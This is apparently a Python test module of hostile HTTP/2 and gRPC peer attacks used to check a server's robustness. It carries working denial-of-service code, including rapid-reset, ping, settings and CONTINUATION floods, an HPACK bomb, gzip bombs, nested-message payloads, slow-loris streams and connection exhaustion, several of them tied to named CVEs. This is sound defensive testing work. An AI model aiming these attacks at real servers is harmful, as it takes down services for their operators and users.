"""What hostile peers do. Each attack is a function of the target and the size; it returns what it saw, in a few words,
and raises Failed when the server answered as it must not. What every attack must leave intact (the process, its memory,
the calls of others) is checked by run.py.
"""
import contextlib
import errno
import os
import resource
import select
import signal
import socket
import struct
import time
import zlib
from collections import Counter
from dataclasses import dataclass
from typing import Callable

import hpack
import http2
from http2 import Closed, Code, Connection, Silent, message

MIB = 1 << 20


class Failed(Exception):
    """The server answered as it must not."""


@dataclass
class Attack:
    """One attack and what it may cost."""

    run: Callable
    peak_mib: int  # the most memory that the server may have used by the end
    full_peak_mib: int | None = None  # the same for an attack at full size, where that is more
    server: str = "user"  # which server: user (the user service) or probe (recursive messages, large answers)
    options: tuple = ()  # more arguments for it
    descriptors: int | None = None  # a limit on its open files
    new_connections: bool = True  # whether others can connect meanwhile

    @property
    def name(self):
        return self.run.__name__


ATTACKS = []


def attack(**options):
    def register(function):
        ATTACKS.append(Attack(function, **options))
        return function

    return register


@dataclass
class Size:
    """How much of an attack."""

    full: bool

    def __call__(self, full, quick):
        return full if self.full else quick


# ---- helpers


def wanted(answer, *codes):
    """Fails unless the answer has one of these status codes."""
    if answer.code not in codes:
        raise Failed(f"answered {answer}, not {' or '.join(code.name for code in codes)}")
    return answer


def outcome(connection, number, seconds=http2.ANSWER_SECONDS):
    """How the server ended a stream, in a few words; it must do so in some way."""
    try:
        answer = connection.answer(number, seconds)
    except Closed:
        return "connection closed"
    except Silent as error:
        raise Failed("the server neither answered nor closed") from error
    if answer.code is not None:
        return answer.code.name
    return str(answer)


def counted(outcomes):
    return ", ".join(f"{count} x {what}" for what, count in Counter(outcomes).most_common(4))


def flood(target, count, make, batch=500):
    """Sends what `make(connection)` returns `count` times, on a new connection whenever the server closes one, and
    waits until all is read. Returns how many connections it took."""
    sent = connections = 0
    while sent < count:
        connections += 1
        with contextlib.suppress(Closed), Connection(target.address, polite=False) as connection:
            while sent < count:
                size = min(batch, count - sent)
                sent += size
                connection.send(b"".join(make(connection) for _ in range(size)))
                while connection.take(0):
                    pass
            with contextlib.suppress(Silent):
                connection.ping()
    return connections


# ---- floods of frames


@attack(peak_mib=128, full_peak_mib=512)
def rapid_reset(target, size):
    """CVE-2023-44487: calls that are cancelled at once. gRPC core makes calls of them as fast as it can read."""
    count = size(100_000, 5_000)

    def call_and_reset(connection):
        number = connection.new_stream()
        return http2.headers_frame(number, target.headers()) + http2.reset(number)

    return f"{count} calls reset, {flood(target, count, call_and_reset)} connections"


@attack(peak_mib=128, full_peak_mib=1024)
def rapid_reset_on_many_connections(target, size):
    each = size(2_000, 200)
    connections = []
    for _ in range(50):
        connections.append(Connection(target.address, polite=False))
    reset = 0
    for _ in range(each // 100):
        for connection in connections:
            with contextlib.suppress(Closed):
                out = bytearray()
                for _ in range(100):
                    number = connection.new_stream()
                    out += http2.headers_frame(number, target.headers()) + http2.reset(number)
                connection.send(bytes(out))
                reset += 100
                while connection.take(0):
                    pass
    for connection in connections:
        connection.close()
    return f"{reset} calls reset, {len(connections)} connections"


@attack(peak_mib=160, full_peak_mib=768)
def reset_after_the_request(target, size):
    """Whole requests, so that handlers start, cancelled at once."""
    count = size(20_000, 3_000)

    def call_and_reset(connection):
        number = connection.new_stream()
        request = http2.headers_frame(number, target.headers())
        request += http2.data_frames(number, message(target.request), end_stream=True)
        return request + http2.reset(number)

    return f"{count} calls reset, {flood(target, count, call_and_reset)} connections"


@attack(peak_mib=64)
def invited_reset(target, size):
    """CVE-2025-8671: frames that break a rule, so that the server itself resets the streams."""
    count = size(50_000, 3_000)

    def call_and_err(connection):
        number = connection.new_stream()
        return http2.headers_frame(number, target.headers()) + http2.window_update(number, 0)

    return f"{count} calls, {flood(target, count, call_and_err)} connections"


@attack(peak_mib=256)
def ping_flood(target, size):
    """CVE-2019-9512."""
    count = size(1_000_000, 50_000)
    ping = http2.frame(http2.PING, 0, 0, b"pingpong")
    return f"{count} pings, {flood(target, count, lambda _: ping, batch=5000)} connections"


@attack(peak_mib=64)
def settings_flood(target, size):
    """CVE-2019-9515."""
    count = size(500_000, 50_000)
    settings = http2.settings((http2.SETTINGS_INITIAL_WINDOW_SIZE, 65535))
    return f"{count} SETTINGS, {flood(target, count, lambda _: settings, batch=2000)} connections"


def flood_without_reading(target, count, item):
    """Sends `item` up to `count` times and reads nothing, so that what the server answers has nowhere to go."""
    sent = 0
    chunk = item * 1000
    with contextlib.suppress(Closed), Connection(target.address, polite=False, receive_buffer=4096) as connection:
        connection.socket.setblocking(False)
        while sent < count:
            _, writable, _ = select.select([], [connection.socket], [], 1)
            if not writable:
                break  # the server has stopped to read: as it should
            try:
                sent += connection.socket.send(chunk) / len(item)
            except BlockingIOError:
                continue
            except OSError:
                break
        target.let_others_call(20)
    return int(sent)


@attack(peak_mib=256)
def ping_flood_without_reading(target, size):
    sent = flood_without_reading(target, size(1_000_000, 50_000), http2.frame(http2.PING, 0, 0, b"pingpong"))
    return f"{sent} pings taken"


@attack(peak_mib=64)
def settings_flood_without_reading(target, size):
    sent = flood_without_reading(target, size(1_000_000, 50_000), http2.settings())
    return f"{sent} SETTINGS taken"


@attack(peak_mib=64)
def empty_data_flood(target, size):
    """CVE-2019-9518: frames that carry nothing."""
    count = size(500_000, 50_000)
    with Connection(target.address) as connection:
        number = connection.start(target.path, end_stream=False)
        empty = http2.frame(http2.DATA, 0, number) * 1000
        try:
            for _ in range(count // 1000):
                connection.send(empty)
            connection.send(http2.data_frames(number, message(target.request), end_stream=True))
        except Closed:
            return "connection closed"
        return f"{count} frames, then {outcome(connection, number)}"


@attack(peak_mib=64)
def empty_messages(target, size):
    """Empty messages without end to a method that takes one."""
    count = size(500_000, 50_000)
    with Connection(target.address) as connection:
        number = connection.start(target.path, end_stream=False)
        try:
            connection.send_data(number, message(b"") * count)
        except (Closed, Silent) as error:
            return str(error)
        answer = connection.answer(number)
        if answer.code == Code.OK:
            raise Failed("answered OK")
        return f"{count} messages: {answer}"


@attack(peak_mib=64, full_peak_mib=128)
def continuation_flood(target, size):
    """CVE-2024-27316 and its like: headers that never end. gRPC core keeps all of them."""
    rounds = size(4000, 400)
    field = hpack.encode([("x-filler", "x" * 16000)])
    sent = 0
    with Connection(target.address, polite=False) as connection:
        number = connection.new_stream()
        with contextlib.suppress(Closed, Silent):
            connection.send(http2.frame(http2.HEADERS, 0, number, hpack.encode(target.headers())))
            for _ in range(rounds):
                connection.send(http2.frame(http2.CONTINUATION, 0, number, field))
                sent += 1
                connection.take(0)
        target.let_others_call(20)
    return f"{sent * len(field) // MIB} MiB of headers taken"


@attack(peak_mib=64)
def empty_continuation_flood(target, size):
    count = size(500_000, 50_000)
    sent = 0
    with Connection(target.address, polite=False) as connection:
        number = connection.new_stream()
        chunk = http2.frame(http2.CONTINUATION, 0, number) * 1000
        with contextlib.suppress(Closed, Silent):
            connection.send(http2.frame(http2.HEADERS, 0, number, hpack.encode(target.headers())))
            for _ in range(count // 1000):
                connection.send(chunk)
                sent += 1000
                connection.take(0)
    return f"{sent} frames taken"


@attack(peak_mib=64)
def priority_and_unknown_frame_flood(target, size):
    """CVE-2019-9513, and frames of a kind that nobody knows."""
    count = size(300_000, 30_000)
    frames = http2.frame(http2.PRIORITY, 0, 1, struct.pack(">IB", 3, 255)) + http2.frame(0xBB, 0xFF, 5, b"x" * 20)
    return f"{2 * count} frames, {flood(target, count, lambda _: frames, batch=1000)} connections"


# ---- headers


@attack(peak_mib=64)
def huge_header_list(target, size):
    outcomes = []
    for _ in range(size(50, 5)):
        with Connection(target.address) as connection:
            block = hpack.encode(target.headers(*((f"x-{i}", "v" * 1000) for i in range(1000))))
            number = connection.new_stream()
            try:
                connection.send(http2.frame(http2.HEADERS, http2.END_STREAM, number, block[:16000]))
                for at in range(16000, len(block), 16000):
                    flags = http2.END_HEADERS if at + 16000 >= len(block) else 0
                    connection.send(http2.frame(http2.CONTINUATION, flags, number, block[at : at + 16000]))
            except Closed:
                outcomes.append("connection closed")
                continue
            outcomes.append(outcome(connection, number))
    if "OK" in outcomes:
        raise Failed("answered OK to 1 MB of headers")
    return counted(outcomes)


@attack(peak_mib=64)
def hpack_bomb(target, size):
    """CVE-2016-6581: one large header, put into the table once and named by one byte 16,000 times: 64 MB a request."""
    outcomes = []
    with contextlib.ExitStack() as stack:
        connection = None
        for _ in range(size(50, 5)):
            if connection is None or connection.closed:
                connection = stack.enter_context(Connection(target.address))
            block = hpack.encode(target.headers()) + hpack.encode([("x-bomb", "b" * 4000)], indexing=True)
            block += b"\xbe" * 11000
            number = connection.new_stream()
            try:
                connection.send(http2.frame(http2.HEADERS, http2.END_STREAM | http2.END_HEADERS, number, block))
            except Closed:
                outcomes.append("connection closed")
                continue
            outcomes.append(outcome(connection, number))
    if "OK" in outcomes:
        raise Failed("answered OK to 44 MB of headers")
    return counted(outcomes)


@attack(peak_mib=64)
def header_table_churn(target, size):
    """Headers that enter the peer's table, each with a new name, and settings that resize ours."""
    outcomes = []
    with Connection(target.address, (http2.SETTINGS_HEADER_TABLE_SIZE, 0xFFFFFFFF)) as connection:
        for i in range(size(2000, 100)):
            block = hpack.encode(target.headers())
            block += hpack.encode([(f"x-{i}-{j}", "v" * 50) for j in range(40)], indexing=True)
            number = connection.new_stream()
            request = http2.frame(http2.HEADERS, http2.END_HEADERS, number, block)
            request += http2.data_frames(number, message(target.request), end_stream=True)
            connection.send(http2.settings((http2.SETTINGS_HEADER_TABLE_SIZE, i * 37 % 5000)) + request)
            outcomes.append(outcome(connection, number))
    return counted(outcomes)


@attack(peak_mib=64)
def bad_base64(target, size):
    """A -bin header that is not base64. It may cost the connection that sent it, nothing else."""
    outcomes = []
    for value in ("!!!!", "a", "AAA=A", "====", "AB\u00e9", "," * 100, "A" * 5) * size(50, 3):
        with Connection(target.address) as connection:
            try:
                number = connection.start(target.path, message(target.request), ("x-trace-bin", value))
            except Closed:
                outcomes.append("connection closed")
                continue
            outcomes.append(outcome(connection, number))
    return counted(outcomes)


@attack(peak_mib=64, server="probe")
def illegal_metadata(target, size):
    """Metadata against gRPC's rules, which gRPC core takes. The handler must not see it, nor the call fail."""
    values = (b"a\0b", b"a\nb", b"a\rb", b"\x7f", b"caf\xc3\xa9", b"\x01", b"a\tb")
    keys = (b"head-Upper", b"head- space", b"head-\0", b"head-\xff", b"head-a:b")
    illegal = [(b"head-text", value) for value in values] + [(key, b"v") for key in keys]
    with Connection(target.address) as connection:
        for fields in ([field] for field in illegal * size(50, 1)), [illegal]:
            for some in fields:
                legal = [(b"head-text", b"kept"), *some, (b"head-text", b" trimmed\t")]
                number = connection.start(target.path, message(target.request), *legal)
                answer = wanted(connection.answer(number), Code.OK)
                seen = [pair for pair in answer.blocks[0] if pair[0].startswith(b"head-")]
                if seen != [(b"head-text", b"kept"), (b"head-text", b"trimmed")]:
                    raise Failed(f"of {some} the handler saw {seen}")
    return f"{len(illegal)} kinds dropped"


@attack(peak_mib=64)
def bad_timeouts(target, size):
    outcomes = []
    values = ("", "1", "S", "-1S", "+1S", "1.5S", "1 S", " 1S", "1X", "0x1S", "999999999S", "18446744073709551616S",
              "0n", "00000000n", "99999999H", "\u0663S", "1S,1S", "9" * 5000 + "S")  # fmt: skip
    for value in values * size(20, 2):
        with Connection(target.address) as connection:
            try:
                number = connection.start(target.path, message(target.request), ("grpc-timeout", value))
            except Closed:
                outcomes.append("connection closed")
                continue
            outcomes.append(outcome(connection, number))
    return counted(outcomes)


@attack(peak_mib=64)
def broken_requests(target, size):
    """Requests whose headers break the rules of HTTP/2 or of gRPC."""
    good = target.headers()
    cases = {
        "no te": target.headers(without=("te",)),
        "no content-type": target.headers(without=("content-type",)),
        "no :path": target.headers(without=(":path",)),
        "no :method": target.headers(without=(":method",)),
        "no :scheme": target.headers(without=(":scheme",)),
        "no :authority": target.headers(without=(":authority",)),
        "wrong content-type": target.headers(("content-type", "text/html"), without=("content-type",)),
        "two content-types": target.headers(("content-type", "application/json")),
        "GET": target.headers(without=(":method",))[:0] + [(":method", "GET"), *good[1:]],
        "relative path": [(name, "GetUser" if name == ":path" else value) for name, value in good],
        "empty path": [(name, "" if name == ":path" else value) for name, value in good],
        "path of 8 KB": [(name, "/" + "a" * 8000 if name == ":path" else value) for name, value in good],
        "path with a NUL": [(name, "/a\0b/c" if name == ":path" else value) for name, value in good],
        "unknown pseudo-header": [(":weft", "1"), *good],
        "pseudo-header at the end": [*good, (":path", "/other")],
        "two paths": [(":path", "/other/One"), *good],
        "upper case": [*good, ("X-Upper", "1")],
        "empty name": [*good, ("", "1")],
        "connection header": [*good, ("connection", "close")],
        "newline in a value": [*good, ("x-line", "a\r\nb: c")],
        "content-length": [*good, ("content-length", "99999999999999999999")],
        "no header at all": [],
        "unknown encoding": [*good, ("grpc-encoding", "rot13")],
    }
    hung = []
    outcomes = []
    for _ in range(size(20, 1)):
        for title, headers in cases.items():
            with Connection(target.address) as connection:
                try:
                    number = connection.start("", message(target.request), headers=headers)
                    connection.answer(number, 3)
                    outcomes.append(str(connection.streams[number]).partition(":")[0])
                except Closed:
                    outcomes.append("connection closed")
                except Silent:
                    hung.append(title)
        if hung:
            raise Failed(f"never ended: {', '.join(hung)}")
    return counted(outcomes)


@attack(peak_mib=64)
def unknown_methods(target, size):
    outcomes = []
    with Connection(target.address) as connection:
        for i in range(size(20_000, 500)):
            path = ("/user.UserService/Nothing%d", "/nobody.Home/Get%d", "/%d", "//%d/")[i % 4] % i
            outcomes.append(outcome(connection, connection.start(path, message(b"x" * 100))))
    if set(outcomes) != {"UNIMPLEMENTED"}:
        raise Failed(counted(outcomes))
    return counted(outcomes)


# ---- messages


def varint(value):
    out = bytearray()
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def probe_tree(children):
    """A probe.EchoRequest with a tree whose root has these (encoded) children."""
    return b"\x12" + varint(len(children)) + children


@attack(peak_mib=64)
def nested_groups(target, size):
    """55 KB of groups in groups, in fields that nobody knows."""
    answers = []
    with Connection(target.address) as connection:
        for _ in range(size(200, 10)):
            body = b"\x7b" * 27_500 + b"\x7c" * 27_500
            answers.append(wanted(connection.call(target.path, body), Code.INVALID_ARGUMENT).code.name)
            answers.append(wanted(connection.call(target.path, b"\x7b" * 55_000), Code.INVALID_ARGUMENT).code.name)
    return counted(answers)


@attack(peak_mib=64, server="probe")
def nested_messages(target, size):
    """55 KB of messages in messages: protobuf-c recurses once a level."""
    answers = []
    tree = b""
    while len(tree) < 55_000:
        tree = b"\x0a" + varint(len(tree)) + tree
    with Connection(target.address) as connection:
        for _ in range(size(200, 10)):
            answers.append(wanted(connection.call(target.path, probe_tree(tree)), Code.INVALID_ARGUMENT).code.name)
    return counted(answers)


def in_parallel(target, body, connections, rounds):
    """The same large message on several connections at once."""
    answers = []
    for _ in range(rounds):
        with contextlib.ExitStack() as stack:
            calls = []
            for _ in range(connections):
                connection = stack.enter_context(Connection(target.address))
                calls.append((connection, connection.start(target.path, message(body))))
            answers += [connection.answer(number) for connection, number in calls]
    return answers


@attack(peak_mib=128, server="probe")
def empty_sub_messages(target, size):
    """4 MB of empty sub-messages: protobuf-c makes a hundredfold of it."""
    body = probe_tree(b"\x0a\x00" * (4 * MIB // 2 - 8))
    answers = in_parallel(target, body, 4, size(5, 1))
    for answer in answers:
        wanted(answer, Code.INVALID_ARGUMENT, Code.RESOURCE_EXHAUSTED)
    return counted(answer.code.name for answer in answers)


@attack(peak_mib=700, server="probe")
def sub_messages_below_the_limit(target, size):
    """As many sub-messages as the guard lets through, on as many connections as there are workers."""
    body = probe_tree(b"\x0a\x00" * 900_000)
    answers = in_parallel(target, body, 16, size(5, 1))
    for answer in answers:
        wanted(answer, Code.INVALID_ARGUMENT, Code.RESOURCE_EXHAUSTED)
    return counted(answer.code.name for answer in answers)


@attack(peak_mib=128)
def tiny_fields(target, size):
    """4 MB of unknown fields of two bytes, and of empty strings."""
    answers = []
    for unit in (b"\x78\x01", b"\x7a\x00", b"\x0a\x00"):
        answers += in_parallel(target, unit * (4 * MIB // 2 - 8), 4, size(5, 1))
    for answer in answers:
        wanted(answer, Code.INVALID_ARGUMENT, Code.RESOURCE_EXHAUSTED)
    return counted(answer.code.name for answer in answers)


@attack(peak_mib=64)
def malformed_messages(target, size):
    answers = []
    bodies = [b"\x0a", b"\x0a\xff", b"\x0a\xff\xff\xff\xff\x0f", b"\x0a\x05abc", b"\x00", b"\x0f\x00", b"\xff" * 11,
              b"\x7c", b"\x0a\x03a\x00b", b"\x0a\x02\xc3\x28", b"\x08\x01", os.urandom(1000)]  # fmt: skip
    with Connection(target.address) as connection:
        for body in bodies * size(200, 5):
            answers.append(wanted(connection.call(target.path, body), Code.INVALID_ARGUMENT).code.name)
    return counted(answers)


def gzip_of_zeros(length):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(MIB)
    return b"".join([*(packer.compress(block) for _ in range(length // MIB)), packer.flush()])


@attack(peak_mib=64)
def gzip_bomb(target, size):
    """More than the message limit, compressed to less: inflated no further than the limit."""
    bomb = gzip_of_zeros(size(400, 100) * MIB)
    lies = (bomb[:-4] + bytes(4), bomb[:-4] + b"\xff" * 4, gzip_of_zeros(MIB) * 5)  # of its size; many members
    answers = []
    with Connection(target.address) as connection:
        for _ in range(size(20, 2)):
            for body in (bomb, *lies):
                number = connection.start(target.path, message(body, compressed=1), ("grpc-encoding", "gzip"))
                answers.append(wanted(connection.answer(number), Code.RESOURCE_EXHAUSTED).code.name)
    return f"{len(bomb) >> 10} KiB bombs: {counted(answers)}"


@attack(peak_mib=64)
def bad_compression(target, size):
    """Encodings that are not known or not named, and gzip that is none. Each answer says what would be taken."""
    good = zlib.compress(target.request, wbits=31)
    answers = []
    with Connection(target.address) as connection:
        for _ in range(size(200, 10)):
            number = connection.start(target.path, message(good, compressed=1), ("grpc-encoding", "gzip"))
            untroubled = connection.answer(number)
            if untroubled.code in (Code.INTERNAL, Code.UNIMPLEMENTED, None):
                raise Failed(f"a good compressed request was answered {untroubled}")
            for encoding, codes in (("deflate", [Code.UNIMPLEMENTED]), ("identity", [Code.INTERNAL]),
                                    ("snappy", [Code.INTERNAL]), (None, [Code.INTERNAL])):  # fmt: skip
                extra = [("grpc-encoding", encoding)] if encoding else []
                number = connection.start(target.path, message(good, compressed=1), *extra)
                answer = wanted(connection.answer(number), *codes)
                if answer.header("grpc-accept-encoding") != b"identity, gzip":
                    raise Failed(f"{encoding}: the answer says it takes {answer.header('grpc-accept-encoding')}")
                answers.append(answer.code.name)
            for body in (b"", good[:-1], good + b"\0", good[:-8] + bytes(8), b"\x1f\x8b", zlib.compress(b"zlib"),
                         target.request):  # fmt: skip
                number = connection.start(target.path, message(body, compressed=1), ("grpc-encoding", "gzip"))
                answers.append(wanted(connection.answer(number), Code.INTERNAL).code.name)
    return counted(answers)


@attack(peak_mib=64)
def wrong_number_of_messages(target, size):
    """None or two to a method that takes one: never OK."""
    one = message(target.request)
    answers = []
    with Connection(target.address) as connection:
        for _ in range(size(500, 20)):
            number = connection.start(target.path)
            answers.append(wanted(connection.answer(number), Code.UNIMPLEMENTED, Code.INTERNAL).code.name)
            number = connection.start(target.path, one + one)
            answers.append(wanted(connection.answer(number), Code.UNIMPLEMENTED, Code.INTERNAL).code.name)
            number = connection.start(target.path, one, end_stream=False)
            connection.send(http2.data_frames(number, one, end_stream=True))
            answers.append(wanted(connection.answer(number), Code.UNIMPLEMENTED, Code.INTERNAL).code.name)
            number = connection.start(target.path, end_stream=False)
            connection.send(http2.frame(http2.DATA, http2.END_STREAM, number))
            answers.append(wanted(connection.answer(number), Code.UNIMPLEMENTED, Code.INTERNAL).code.name)
    return counted(answers)


@attack(peak_mib=64)
def too_long_messages(target, size):
    answers = []
    for _ in range(size(20, 2)):
        for length in (4 * MIB + 1, 5 * MIB):
            with Connection(target.address) as connection:
                answers.append(wanted(connection.call(target.path, bytes(length)), Code.RESOURCE_EXHAUSTED).code.name)
    return counted(answers)


@attack(peak_mib=192)
def message_far_over_the_limit(target, _):
    """A prefix that says 2 GB, and 128 MB of it. gRPC core buffers what a prefix announces and looks at the limit when
    the message is whole, so the peer decides how much memory that takes."""
    block = bytes(MIB)
    taken = 0
    with Connection(target.address) as connection:
        number = connection.start(target.path, message(b"", length=0x7FFFFFFF), end_stream=False)
        try:
            while taken < 128 and not connection.streams[number].over:
                connection.send_data(number, block, end_stream=False)
                taken += 1
        except Closed:
            return f"connection closed after {taken} MiB"
        if not connection.streams[number].over:
            return f"{taken} MiB taken"
        wanted(connection.streams[number], Code.RESOURCE_EXHAUSTED)
    return f"refused after {taken} MiB"


@attack(peak_mib=64)
def wrong_length_prefix(target, size):
    cases = {
        "too long": message(b"\x0a\x01a", length=100),
        "too short": message(b"\x0a\x01a" * 10, length=3),
        "cut in the prefix": b"\x00\x00\x00",
        "unknown flags": message(target.request, compressed=0x7E),
        "only the prefix": message(b"", length=1),
    }
    outcomes = []
    for _ in range(size(100, 5)):
        for title, body in cases.items():
            with Connection(target.address) as connection:
                ended = outcome(connection, connection.start(target.path, body))
                if ended == "OK" and title != "unknown flags":  # gRPC core looks at the lowest bit only
                    raise Failed(f"{title}: answered OK")
                outcomes.append(ended)
    return counted(outcomes)


# ---- flow control and framing


@attack(peak_mib=64)
def window_overflow(target, size):
    """WINDOW_UPDATE over 2^31-1, on the connection and on a stream, and increments of nothing."""
    outcomes = []
    for _ in range(size(50, 3)):
        for on_stream, increment in ((False, 0x7FFFFFFF), (True, 0x7FFFFFFF), (False, 0), (True, 0)):
            with Connection(target.address) as connection:
                number = connection.start(target.path, end_stream=False)
                try:
                    connection.send(http2.window_update(number if on_stream else 0, increment) * 3)
                    connection.send_data(number, message(target.request))
                except Closed:
                    outcomes.append("connection closed")
                    continue
                outcomes.append(outcome(connection, number))
    return counted(outcomes)


@attack(peak_mib=64)
def broken_frames(target, size):
    """Frames that no peer may send. The connection is lost, or the stream; nothing else."""
    padded = http2.frame(http2.DATA, http2.PADDED, 1, b"\xff" + b"x" * 10)
    cases = {
        "even stream": http2.headers_frame(2, target.headers()),
        "stream 0 headers": http2.headers_frame(0, target.headers()),
        "stream going back": http2.headers_frame(5, target.headers()) + http2.headers_frame(3, target.headers()),
        "DATA on stream 0": http2.frame(http2.DATA, 0, 0, b"x"),
        "DATA on an idle stream": http2.frame(http2.DATA, 0, 7, b"x"),
        "reset of an idle stream": http2.reset(9),
        "window of an idle stream": http2.window_update(9, 1),
        "PUSH_PROMISE": http2.frame(http2.PUSH_PROMISE, 4, 1, b"\0\0\0\2\x82"),
        "PING of 7 bytes": http2.frame(http2.PING, 0, 0, b"1234567"),
        "PING on a stream": http2.frame(http2.PING, 0, 1, b"12345678"),
        "SETTINGS of 5 bytes": http2.frame(http2.SETTINGS, 0, 0, b"12345"),
        "SETTINGS on a stream": http2.frame(http2.SETTINGS, 0, 1, b""),
        "SETTINGS ACK with content": http2.frame(http2.SETTINGS, http2.ACK, 0, b"123456"),
        "window too large": http2.settings((http2.SETTINGS_INITIAL_WINDOW_SIZE, 0x80000000)),
        "frame size too small": http2.settings((5, 1)),
        "frame size too large": http2.settings((5, 0xFFFFFFFF)),
        "reset of 3 bytes": http2.headers_frame(1, target.headers()) + http2.frame(http2.RST_STREAM, 0, 1, b"abc"),
        "padding longer than the frame": http2.headers_frame(1, target.headers()) + padded,
        "largest frame": b"\xff\xff\xff\0\0\0\0\0\1",
        "CONTINUATION alone": http2.frame(http2.CONTINUATION, 4, 1, b"\x82"),
        "DATA between headers": http2.frame(http2.HEADERS, 0, 1, b"\x83") + http2.frame(http2.DATA, 0, 1, b"x"),
        "headers index 0": http2.frame(http2.HEADERS, 4, 1, b"\x80"),
        "headers index far": http2.frame(http2.HEADERS, 4, 1, b"\xff\xff\xff\xff\x0f"),
        "integer without end": http2.frame(http2.HEADERS, 4, 1, b"\xff" * 1000),
        "bad Huffman": http2.frame(http2.HEADERS, 4, 1, b"\x00\x84\xff\xff\xff\xff\x01a"),
        "table too large": http2.frame(http2.HEADERS, 4, 1, b"\x3f\xff\xff\xff\x7f"),
        "GOAWAY": http2.frame(http2.GOAWAY, 0, 0, bytes(8) + b"x" * 10000),
        "GOAWAY of 3 bytes": http2.frame(http2.GOAWAY, 0, 0, b"abc"),
    }
    closed = 0
    for _ in range(size(20, 1)):
        for data in cases.values():
            with contextlib.suppress(Closed, Silent), Connection(target.address) as connection:
                connection.send(data)
                try:
                    connection.ping(1)
                except Closed:
                    closed += 1
    return f"{len(cases) * size(20, 1)} connections, {closed} closed"


@attack(peak_mib=64)
def garbage(target, size):
    """Bytes that are not HTTP/2: noise, another protocol, nothing, half a preface."""
    hello = bytes.fromhex("160301007a010000760303") + bytes(111)
    starts = [os.urandom(1000), hello, b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n", b"", http2.PREFACE[:10],
              http2.PREFACE + b"\xff" * 100, bytes(5000), http2.PREFACE * 3, b"PRI * HTTP/1.1\r\n\r\n"]  # fmt: skip
    with contextlib.ExitStack() as stack:
        connections = []
        for _ in range(size(50, 5)):
            for start in starts:
                connection = stack.enter_context(Connection(target.address, preface=False, polite=False))
                with contextlib.suppress(Closed):
                    connection.send(start)
                connections.append(connection)
        target.let_others_call(20)
        closed = 0
        for connection in connections:
            try:
                while connection.take(0):
                    pass
            except (Closed, struct.error, UnicodeError):
                closed += 1
    return f"{len(connections)} connections, {closed} closed by then"


# ---- holding on to things


def stream_limit(connection):
    connection.wait(lambda: connection.peer_settings)
    return connection.peer_settings.get(http2.SETTINGS_MAX_CONCURRENT_STREAMS, 2000)


def hold_streams(target, connections, begin):
    """As many streams as the server allows, on each of some connections; `begin(number)` is what each sends."""
    streams = 0
    with contextlib.ExitStack() as stack:
        held = []
        for _ in range(connections):
            connection = stack.enter_context(Connection(target.address))
            for _ in range(stream_limit(connection)):
                with contextlib.suppress(Closed):
                    connection.send(begin(connection.new_stream()))
                    streams += 1
            held.append(connection)
        for connection in held:
            with contextlib.suppress(Closed):
                connection.ping()
        target.let_others_call(30)
        refused = sum(stream.over for connection in held for stream in connection.streams.values())
    return f"{streams} streams on {connections} connections, {refused} refused"


@attack(peak_mib=128, full_peak_mib=256)
def streams_without_a_request(target, size):
    """Slow loris: headers, and then nothing."""
    return hold_streams(target, size(12, 3), lambda number: http2.headers_frame(number, target.headers()))


@attack(peak_mib=128, full_peak_mib=256)
def streams_with_half_a_prefix(target, size):
    def begin(number):
        return http2.headers_frame(number, target.headers()) + http2.frame(http2.DATA, 0, number, b"\0\0\0")

    return hold_streams(target, size(12, 3), begin)


@attack(peak_mib=128, full_peak_mib=320)
def streams_that_never_half_close(target, size):
    """A whole message, but not the end of the stream: the handler may not start."""

    def begin(number):
        request = http2.data_frames(number, message(target.request))
        return http2.headers_frame(number, target.headers()) + request

    return hold_streams(target, size(12, 3), begin)


@attack(peak_mib=160, full_peak_mib=400)
def large_half_messages(target, size):
    """4 MB messages of which the last byte never comes: what an engine buffers for each."""
    count = size(64, 16)
    with contextlib.ExitStack() as stack:
        for _ in range(count):
            connection = stack.enter_context(Connection(target.address))
            with contextlib.suppress(Closed, Silent):
                number = connection.start(target.path, end_stream=False)
                connection.send_data(number, message(bytes(4 * MIB - 2), length=4 * MIB - 1), end_stream=False)
        target.let_others_call(20)
    return f"{count} messages of 4 MiB"


def with_hard_limit_of_descriptors():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def open_many(address, count):
    """Opens `count` connections at once, as far as the other side takes them. Returns their sockets, and how many
    stand."""
    poller = select.epoll()
    sockets, pending = {}, 0
    for _ in range(count):
        sock = socket.socket()
        sock.setblocking(False)
        error = sock.connect_ex(address)
        if error not in (0, errno.EINPROGRESS):
            sock.close()
            break
        sockets[sock.fileno()] = sock
        poller.register(sock, select.EPOLLOUT)
        pending += 1
    connected = 0
    while pending:
        events = poller.poll(0.5)
        if not events:
            break
        for descriptor, _ in events:
            poller.unregister(descriptor)
            pending -= 1
            connected += sockets[descriptor].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0
    poller.close()
    return list(sockets.values()), connected


@attack(peak_mib=64, descriptors=512, new_connections=False)
def more_connections_than_descriptors(target, size):
    """10,000 connections to a server that may open 512 files: it must serve those it has, and come back."""
    count = min(size(10_000, 1_500), with_hard_limit_of_descriptors() - 100)
    sockets, connected = open_many(target.address, count)
    try:
        target.let_others_call(30)
        used = target.service.open_files
    finally:
        for sock in sockets:
            sock.close()
    return f"{connected} of {count} connected, {used} files open"


@attack(peak_mib=64, full_peak_mib=160)
def many_idle_connections(target, size):
    count = min(size(5_000, 500), with_hard_limit_of_descriptors() - 100)
    sockets, connected = open_many(target.address, count)
    try:
        for sock in sockets:
            with contextlib.suppress(OSError):
                sock.send(http2.PREFACE + http2.settings())
        target.let_others_call(30)
    finally:
        for sock in sockets:
            sock.close()
    return f"{connected} connections"


def until_served(target, seconds=10):
    """Connects until the server has seen that others have gone."""
    deadline = time.monotonic() + seconds
    while True:
        try:
            with Connection(target.address) as connection:
                connection.ping()
            return
        except Closed:
            if time.monotonic() > deadline:
                raise


@attack(peak_mib=64, server="probe", options=("--max-connections", "50"), new_connections=False)
def more_connections_than_allowed(target, size):
    """A server that allows 50 connections serves those, and closes the others at once, until some have gone."""
    served = closed = 0
    with contextlib.ExitStack() as stack:
        for _ in range(size(2_000, 150)):
            try:
                connection = stack.enter_context(Connection(target.address))
                connection.ping()
                served += 1
            except Closed:
                closed += 1
        target.let_others_call(20)
    until_served(target)
    if not 0 < served <= 50:
        raise Failed(f"{served} connections are served")
    return f"{served} served, {closed} closed"


@attack(peak_mib=64)
def connections_that_come_and_go(target, size):
    """Connections closed by a reset before, during and after the preface."""
